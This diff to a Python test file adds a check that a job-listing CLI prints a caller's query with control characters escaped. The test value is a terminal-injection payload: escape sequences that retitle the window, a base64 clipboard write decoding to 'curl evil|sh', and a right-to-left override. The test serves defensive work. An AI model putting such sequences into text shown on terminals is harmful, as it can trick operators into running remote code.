@@ -28,6 +28,7 @@ from findme.local.runner import LocalFindMe
 from findme.local.server import PARAMETERS_NOT_ALLOWED
 from findme.state import keys
 from tests import photo_variants as pv
+from tests.cli_helpers import findme
 
 SECRET = "s3cret"
 
@@ -218,3 +219,20 @@ def test_no_other_site_may_frame_the_page(local: LocalFindMe, path: str) -> None
     assert answer.status_code == 200
     assert answer.headers["content-security-policy"] == "frame-ancestors 'self'"
     assert answer.headers["x-frame-options"] == "SAMEORIGIN"
+
+
+# -- 15: a caller's text never reaches the operator's terminal raw ---------------------------
+
+TITLE_AND_CLIPBOARD = "#pycon \x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07 \u202eevil"
+
+
+def test_findme_jobs_shows_a_callers_query_escaped(redis_client: redis.Redis) -> None:
+    store = JobStore(redis_client, 3600)
+    job_id = new_job_id()
+    store.create(job_id, {"job_id": job_id, "source": "twitter", "query": TITLE_AND_CLIPBOARD})
+    listed = findme("jobs")
+    assert listed.returncode == 0, listed.stderr
+    line = next(line for line in listed.stdout.splitlines() if line.startswith(job_id))
+    assert "\x1b" not in listed.stdout and "\x07" not in listed.stdout  # sent raw before
+    assert "\u202e" not in listed.stdout
+    assert line.endswith("#pycon \\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCBldmlsfHNo\\x07 \\u202eevil")
